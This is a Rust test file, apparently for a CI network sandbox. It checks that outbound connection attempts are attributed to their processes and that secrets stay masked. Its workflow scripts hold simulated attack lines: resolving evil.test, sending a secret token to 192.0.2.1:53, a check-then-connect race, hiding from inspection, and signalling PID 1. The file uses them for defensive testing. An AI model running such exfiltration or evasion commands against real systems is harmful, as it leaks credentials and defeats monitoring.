//! Which process it was: on record, whatever it does about it; and that nothing depends on it.

use palisade_tests::{Events, Identity};

use crate::exhaustion::script;
use crate::jobs::{run_scripts, run_workflow};
use crate::world::{CANARY, Datagrams, Server, World, prevented, succeeded};

#[test]
fn each_attempt_is_told_with_its_process_and_those_above_it() {
    let server = Server::http();
    let port = server.port();
    for world in World::all() {
        world.name("a.test", &["127.0.0.2"]);
        let text = format!(
            "
on: push
jobs:
  a:
    runs-on: x
    steps:
      - run: |
          \"$ATTACK\" dial a.test $PORT \"$REQUEST\"
          sh -c '\"$ATTACK\" resolve evil.test; \"$ATTACK\" dial a.test {} x; \"$ATTACK\" dial 192.0.2.1 53 $TOKEN; true' low-secret
        env: {{ TOKEN: '${{{{ secrets.TOKEN }}}}' }}
",
            port + 1
        );
        let mut args = world.options(&[format!("a.test:{port}")]);
        args.extend(["--secret", "TOKEN=quite-secret-7", "--json"].map(str::to_owned));
        let outcome = run_workflow(&world, &server, &text, &args);
        assert_eq!(outcome.code, Some(0), "{outcome}");
        assert!(!outcome.stdout.contains("quite-secret-7"), "{outcome}");
        let events = Events::of(&outcome);
        let told: Vec<_> = events
            .of_kind("network")
            .map(|event| {
                let process = &event["process"];
                let text = |value: &serde_json::Value| value.as_str().unwrap_or("null").to_owned();
                let exe = text(&process["exe"]);
                let parents = process["parents"].as_array().map(Vec::len);
                let name = format!("{} {}", text(&event["name"]), text(&event["outcome"]));
                (name, exe.rsplit('/').next().map(str::to_owned), parents, process["certain"].as_bool())
            })
            .collect();
        let of =
            |name: &str, parents| (name.to_owned(), Some("attack".to_owned()), Some(parents), Some(true));
        // Below the step's shell, and below the shell that this has started. A connection is told some time after its end.
        let mut sorted = told.clone();
        sorted.sort();
        assert_eq!(
            sorted,
            [of("a.test reached", 1), of("a.test refused", 2), of("evil.test refused", 2)],
            "{outcome}"
        );
        let dialled =
            events.of_kind("network").find(|event| event["outcome"] == "reached").expect("it was reached");
        let command = dialled["process"]["command"].as_str().expect("a command line");
        assert!(command.starts_with("./attack dial a.test "), "{outcome}");
        let unnamed = events.of_kind("network_unnamed").next().expect("an address was tried");
        assert_eq!((&unnamed["attempts"], &unnamed["to"]["address"]), (&1.into(), &"192.0.2.1".into()));
        assert_eq!((&unnamed["to"]["port"], &unnamed["to"]["udp"]), (&53.into(), &false.into()));
        assert_eq!(unnamed["to"]["process"]["command"], "./attack dial 192.0.2.1 53 ***", "{outcome}");
        for (warning, from) in [
            ("evil.test refused: no rule allows it", "attack"),
            ("no rule opens this port; `--allow a.test:", "attack"),
            ("1 attempt to reach 192.0.2.1:53 came to nothing; only names can be allowed", "attack"),
        ] {
            let said = events.annotations("warning");
            let said = said.iter().find(|said| said.contains(warning));
            let said = said.unwrap_or_else(|| panic!("no `{warning}` in\n{outcome}"));
            assert!(said.starts_with(&format!("network: `{from}` (of `sh -c ")), "{said}");
        }
        let summary = events.of_kind("network_summary").next().expect("a summary");
        assert!(summary["unattributed"].is_null() && summary["unseen"] == 0, "{outcome}");
        assert_eq!(summary["rows"][0]["programs"][0], "attack", "{outcome}");
    }
}

#[test]
fn who_has_asked_for_the_same_is_told_from_who_has_connected() {
    let server = Server::http();
    let port = server.port();
    let world = World::new(Identity::Current);
    world.name("a.test", &["127.0.0.2"]);
    let script = "
          mkfifo input
          \"$ATTACK\" decoy a.test $PORT <input >said & exec 3>input
          until [ $(grep -c EISCONN said) = 2 ]; do sleep 0.01; done
          \"$ATTACK\" dial a.test $PORT \"$REQUEST\"
          exec 3>&-
          wait
";
    let mut args = world.options(&[format!("a.test:{port}")]);
    args.push("--json".to_owned());
    let outcome = run_scripts(&world, &server, &[script], &args);
    let events = Events::of(&outcome);
    let reached =
        events.of_kind("network").find(|event| event["outcome"] == "reached").expect("it was reached");
    let (command, certain) = (&reached["process"]["command"], &reached["process"]["certain"]);
    assert!(command.as_str().is_some_and(|command| command.starts_with("./attack dial ")), "{outcome}");
    assert_eq!(certain, true, "the kernel knows whose the socket is\n{outcome}");
}

#[test]
fn who_sends_without_connecting_is_found_by_the_socket() {
    let (server, tcp) = (Datagrams::start("127.0.0.2:0"), Server::blunt());
    let port = server.port();
    for world in World::all() {
        world.name("a.test", &["127.0.0.2"]);
        // The first one has connected to the same.
        let script = format!(
            "cp attack other; \"$ATTACK\" datagram a.test {port} hello connect
             for way in sendto sendmsg sendmmsg; do ./other datagram a.test {port} hello $way; done"
        );
        let mut args = world.options(&[format!("a.test:{port}/udp")]);
        args.push("--json".to_owned());
        let outcome = run_scripts(&world, &tcp, &[&script], &args);
        let events = Events::of(&outcome);
        let mut told: Vec<_> = events
            .of_kind("network")
            .map(|event| {
                let process = &event["process"];
                let name = process["exe"].as_str().and_then(|exe| exe.rsplit('/').next()).unwrap_or("nobody");
                (name.to_owned(), process["certain"].as_bool())
            })
            .collect();
        told.sort();
        let of = |name: &str, times| vec![(name.to_owned(), Some(true)); times];
        assert_eq!(told, [of("attack", 2), of("other", 6)].concat(), "{outcome}");
    }
}

#[test]
fn nothing_is_reached_by_who_isn_t_seen() {
    let server = Server::blunt();
    let port = server.port().to_string();
    for world in World::all() {
        world.name("a.test", &["127.0.0.2"]);
        let rules = [format!("a.test:{port}/opaque")];
        // An address in memory that changes between looking and connecting.
        prevented(&world.try_program(&rules, &["race", "a.test", &port, "192.0.2.1", "500"]));
        // A process that can't be looked at reaches what others do, without being on record.
        let said = world.try_program(&rules, &["hide", "dial", "a.test", &port, "x"]);
        assert_eq!(succeeded(&said), CANARY);
        let said = world.try_program(&rules, &["hide", "dial", "192.0.2.1", &port, "x"]);
        prevented(&said);
        assert!(said.stderr.contains("1 attempt to reach an address without a name"), "{said}");
        prevented(&world.try_program(&rules, &["wild"]));
        // A flood of calls to be seen: it ends, and so does the job.
        let said = world.try_program(&rules, &["storm", "16", "500"]);
        prevented(&said);
        assert!(said.stderr.contains("came to nothing; only names can be allowed"), "{said}");
    }
}

#[test]
fn who_looks_can_t_be_stopped_from_within() {
    let server = Server::blunt();
    let port = server.port();
    for world in World::all() {
        world.name("a.test", &["127.0.0.2"]);
        let signals = "for signal in KILL STOP TERM SEGV; do kill -$signal 1 2>&1; done";
        let steps = format!("{signals}; $attack dial a.test {port} x; $attack dial 192.0.2.1 {port} x");
        let said = script(&world, &[format!("a.test:{port}/opaque")], &steps);
        assert!(said.stdout.contains(CANARY), "{said}");
        assert!(
            said.stderr.contains(&format!("1 attempt to reach 192.0.2.1:{port} came to nothing")),
            "{said}"
        );
    }
}

#[test]
fn a_filter_of_a_command_s_own_works_and_there_is_one_listener() {
    let world = World::new(Identity::Current);
    let said = world.try_program(&["a.test"], &["filter"]);
    assert_eq!(succeeded(&said), "listening: Err(EBUSY), connecting: Err(EDOM)");
    assert!(!said.stderr.contains("came to nothing"), "it never tried: {said}");
}

#[test]
fn with_attribution_off_all_is_as_shut_and_the_record_says_so() {
    let server = Server::http();
    let port = server.port();
    let world = World::new(Identity::Current);
    world.name("a.test", &["127.0.0.2"]);
    let options =
        world.configured(&format!("attribution = false\nallow = ['a.test:{port}', '127.0.0.2']"), "");
    let script = "
          \"$ATTACK\" dial a.test $PORT \"$REQUEST\"
          \"$ATTACK\" race a.test $PORT 192.0.2.1 200 || true
          \"$ATTACK\" resolve evil.test || true
";
    let outcome = run_scripts(&world, &server, &[script], &options);
    let events = Events::of(&outcome);
    assert_eq!(outcome.code, Some(0), "{outcome}");
    assert!(events.of_kind("network").all(|event| event["process"].is_null()), "{outcome}");
    assert!(events.annotations("warning").iter().any(|said| said.starts_with("network: evil.test refused")));
    let summary = events.of_kind("network_summary").next().expect("a summary");
    assert_eq!(summary["unattributed"], "it is switched off", "{outcome}");
}
